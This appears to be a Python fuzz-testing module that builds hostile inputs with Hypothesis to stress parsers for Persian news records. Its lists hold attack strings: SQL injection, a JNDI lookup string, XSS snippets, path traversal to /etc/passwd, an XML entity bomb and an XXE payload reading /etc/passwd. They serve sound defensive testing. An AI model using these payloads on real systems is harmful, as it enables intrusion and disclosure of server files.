"""Hostile values: the atoms every input strategy mixes into otherwise well-formed records.

Not random text alone: each list holds a class of value that has broken parsers somewhere — numbers
JSON allows and Python cannot store, times that overflow once moved to UTC, code points UTF-8
cannot encode, markup that never closes, URLs no resolver accepts — plus Persian text with phone
numbers and e-mails, the input this project reads every day.
"""

from __future__ import annotations

import datetime as dt
import json
from typing import Any
from xml.sax.saxutils import escape

from hypothesis import strategies as st

# sizes of long runs: small enough for CI, large enough for quadratic work to show
LONG_SIZES = (1_000, 20_000, 120_000)

PERSIAN = (
    "هواداران گروه در شیراز شعارنویسی کردند؛ تماس: ۰۹۱۲۳۴۵۶۷۸۹ یا info@example.ir",
    "بنر بزرگی در تهران به آتش کشیده شد، شماره خبرنگار +98 21 8888 7777 و reporter@irna.ir",
    "می‌گویند ۱۴۰۱/۱۱/۲۹ ساعت ۲۳:۵۹ در زاهدان تیراندازی شد",
    "کد ملی ۰۰۱۲۳۴۵۶۷۸ و شبا IR820540102680020817909002",
)
CONTROL = (
    "\x00",
    "\x01",
    "\x07",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\ufeff",
    "\ufffe",
    "\uffff",
)
BIDI = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e", "\u061c", "\u200c")
SURROGATES = ("\ud800", "\udfff", "\udc80", "\ud83d")
MARKUP = (
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<![",
    "<?",
    "<?xml version='1.0'?>",
    "</",
    "</p",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "&#x110000;",
    "&#xD800;",
    "&#0;",
    "&#99999999999999999999;",
    "&#x;",
    "&amp",
    "&nbsp",
    "&unknown;",
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=alert(1)>",
    "<",
    ">",
    "&",
    '"',
    "'",
)
INJECTION = (
    "' OR 1=1 --",
    '"; DROP TABLE documents; --',
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "%s%s%n",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    'NEAR("a" "b")',
    '"unterminated',
    "*",
    "AND NOT",
    "\\",
    "%",
    "_",
)
NUMERIC_TEXT = (
    "NaN",
    "Infinity",
    "-Infinity",
    "1e20",
    "1e30",
    "1e309",
    "-0",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "0x7f",
    "١٢٣",
    "۱۲۳",
    "1" * 4301,
)
ATOMS = PERSIAN + CONTROL + BIDI + SURROGATES + MARKUP + INJECTION + NUMERIC_TEXT

# runs that make parsers look for an end that never comes
UNCLOSED_RUNS = (
    "<!--",
    "<![",
    "<?",
    "</",
    "<![CDATA[",
    "&#",
    "<a ",
    "<div>",
    "\ud800",
    "\x00",
    "ش ",
    "\u202e",
)

NUMBERS: tuple[Any, ...] = (
    float("inf"),
    float("-inf"),
    float("nan"),
    1e20,
    -1e20,
    1e308,
    5e-324,
    2**63,
    -(2**63) - 1,
    2**64,
    10**30,
    0,
    -1,
    True,
    False,
)
# a JSON number Python refuses to read (over the 4300-digit limit); written into raw JSON text only
BIG_INT_LITERAL = "1" * 4301

DATES = (
    "9999-12-31T23:59:59-14:00",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+14:00",
    "0001-01-01T00:00:00+23:59",
    "2023-02-30",
    "2023-13-01",
    "2023-02-18T24:00:00",
    "2023-02-18T09:15:00+25:00",
    "2023-02-18T09:15:00+03:30:00.5",
    "۲۰۲۳-۰۲-۱۸T۰۹:۱۵:۰۰+۰۳:۳۰",
    "١٤٠١-١١-٢٩",
    "1401-11-29",
    "+002023-02-18",
    "2023-W07-6",
    "2023-02-18T09:15:00Z",
    "Sat, 18 Feb 2023 09:15:00 +0330",
    "Sat, 18 Feb 9999 25:61:00 +9999",
    "Mon, 31 Dec 0000 00:00:00 GMT",
    "",
    " ",
    "\x00",
    "2023-02-18\x00",
    "2023-02-18T09:15:00+03:30" * 40,
)

HOSTS = (
    "127.0.0.1",
    "127.0.0.1:0",
    "127.0.0.1:65536",
    "127.0.0.1:99999",
    "127.0.0.1:-1",
    "127.0.0.1:abc",
    "127.0.0.1:",
    "a" * 64 + ".example",
    ".".join(["b" * 63] * 5),
    "مثال.ایران",
    "xn--",
    "-bad-.example",
    "[::1",
    "[::1]:70000",
    "10.0.0.1",
    "169.254.169.254",
    "[fe80::1%25eth0]",
    "user:pass@127.0.0.1",
    "example.invalid\x00.evil",
    "",
)
PATHS = (
    "/",
    "/خبر/۱۲۳",
    "/%zz",
    "/%ff%fe",
    "/a b",
    "/\u202egpj.exe",
    "/..%2f..%2fetc/passwd",
    "/?q=" + "x" * 3000,
    "/" + "a" * 5000,
    "/#frag",
    "/\x00",
)
SCHEMES = ("http", "https", "HTTP", "ftp", "javascript", "file", "data", "")


def hostile_text(max_run: int = LONG_SIZES[-1]) -> st.SearchStrategy[str]:
    """A hostile string: one atom, a mix of atoms and any code points (surrogates included), or a long run."""
    sizes = [n for n in LONG_SIZES if n <= max_run] or [LONG_SIZES[0]]
    mixed = st.lists(
        st.one_of(st.sampled_from(ATOMS), st.text(st.characters(exclude_categories=()), max_size=12)),
        min_size=1,
        max_size=6,
    ).map("".join)
    long_run = st.tuples(st.sampled_from(UNCLOSED_RUNS), st.sampled_from(sizes)).map(
        lambda t: t[0] * (t[1] // len(t[0]))
    )
    return st.one_of(st.sampled_from(ATOMS), mixed, long_run)


def hostile_number() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from(NUMBERS),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=True, allow_infinity=True),
    )


def _offset_time(t: tuple[dt.datetime, int]) -> str:
    day, minutes = t
    return day.replace(tzinfo=dt.timezone(dt.timedelta(minutes=minutes))).isoformat()


def hostile_date() -> st.SearchStrategy[str]:
    """A publication time: ISO 8601 at the edges of the calendar, with offsets up to ±23:59, or junk."""
    edges = st.sampled_from(
        [dt.datetime.min, dt.datetime.max, dt.datetime(1970, 1, 1), dt.datetime(2038, 1, 19)]
    )
    days = st.one_of(edges, st.datetimes())
    offsets = st.integers(min_value=-(24 * 60 - 1), max_value=24 * 60 - 1)
    return st.one_of(st.sampled_from(DATES), st.tuples(days, offsets).map(_offset_time))


def hostile_url() -> st.SearchStrategy[str]:
    """A URL with a bad port, long labels, a non-ASCII path or scheme; never a public address.

    Hosts are names (refused by the harness's resolver), loopback or private literals (blocked or
    served by the local test server), so that fetching one never leaves this machine.
    """
    built = st.builds(
        lambda scheme, host, path: f"{scheme}://{host}{path}" if scheme else f"//{host}{path}",
        st.sampled_from(SCHEMES),
        st.sampled_from(HOSTS),
        st.sampled_from(PATHS),
    )
    odd = st.sampled_from(
        (
            "javascript:document.title='pwned'",
            "data:text/html,<script>alert(1)</script>",
            "http://",
            "http:///path",
            "://127.0.0.1/",
            "http://[::1/",
            "mailto:reporter@irna.ir",
            "tel:+989123456789",
            "relative/path.html",
            "?only=query",
        )
    )
    return st.one_of(built, odd)


def hostile_scalar() -> st.SearchStrategy[Any]:
    """A JSON-able value of any type for a field that expects a string."""
    small = st.one_of(st.none(), st.booleans(), hostile_number(), hostile_text(max_run=LONG_SIZES[1]))
    nested = st.recursive(
        small,
        lambda kids: st.one_of(
            st.lists(kids, max_size=3), st.dictionaries(st.text(max_size=5), kids, max_size=3)
        ),
        max_leaves=6,
    )
    return st.one_of(hostile_text(), hostile_number(), hostile_date(), hostile_url(), nested)


# --- encoding helpers ------------------------------------------------------------------------------
def to_bytes(text: str) -> bytes:
    """UTF-8, except that lone surrogates become the (invalid) bytes they would have been."""
    return text.encode("utf-8", "surrogatepass")


def json_line(value: Any, ascii_only: bool) -> bytes:
    """JSON text as a hostile writer produces it: NaN and Infinity literals; with ``ascii_only``
    False, lone surrogates written raw (invalid UTF-8) instead of as escapes."""
    return to_bytes(json.dumps(value, ensure_ascii=ascii_only, allow_nan=True))


def xml_text(text: str) -> str:
    """``text`` escaped for XML character data, without characters XML 1.0 cannot hold at all."""
    return escape("".join(ch for ch in text if _xml_char(ch)))


def _xml_char(ch: str) -> bool:
    o = ord(ch)
    return o in (0x9, 0xA, 0xD) or 0x20 <= o <= 0xD7FF or 0xE000 <= o <= 0xFFFD or 0x10000 <= o <= 0x10FFFF


def cdata(text: str) -> str:
    """``text`` in a CDATA section when it can be (no "]]>"), else escaped."""
    clean = "".join(ch for ch in text if _xml_char(ch))
    return f"<![CDATA[{clean}]]>" if "]]>" not in clean else escape(clean)


# raw fragments that break a document's structure (written unescaped)
BREAKERS: tuple[bytes, ...] = (
    b"<![CDATA[never closed",
    b"]]>",
    b"&#x110000;",
    b"&#xD800;",
    b"&#0;",
    b"\xff\xfe\xfd",
    b"\xed\xa0\x80",
    b"\xc0\xaf",
    b"\x00",
    b"<!--",
    b"<![",
    b"<?",
    b"</",
    b"<!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>"
    b"<!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>]>",
    b"<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>&xxe;",
    b"&lol3;",
    b"<" * 5000,
    b"<div>" * 3000,
    b"<!--" * 5000,
    b"</" * 5000,
    b"<?" * 5000,
    b"<![" * 5000,
    b'"',
    b"\r",
    b"\xef\xbb\xbf",
    BIG_INT_LITERAL.encode(),
    b"[" * 100_000,
    b"{" * 2_000,
)


def breaker() -> st.SearchStrategy[bytes]:
    long_run = st.tuples(st.sampled_from(UNCLOSED_RUNS), st.sampled_from(LONG_SIZES)).map(
        lambda t: to_bytes(t[0] * (t[1] // len(t[0])))
    )
    return st.one_of(st.sampled_from(BREAKERS), long_run, hostile_text(max_run=1000).map(to_bytes))


def inject(data: bytes, cuts: list[tuple[float, bytes]]) -> bytes:
    """``data`` with each fragment inserted at its relative position (0.0 start, 1.0 end)."""
    out = data
    for where, fragment in sorted(cuts, key=lambda c: -c[0]):
        at = int(len(out) * where)
        out = out[:at] + fragment + out[at:]
    return out


def cuts() -> st.SearchStrategy[list[tuple[float, bytes]]]:
    return st.lists(st.tuples(st.floats(0.0, 1.0), breaker()), min_size=1, max_size=3)
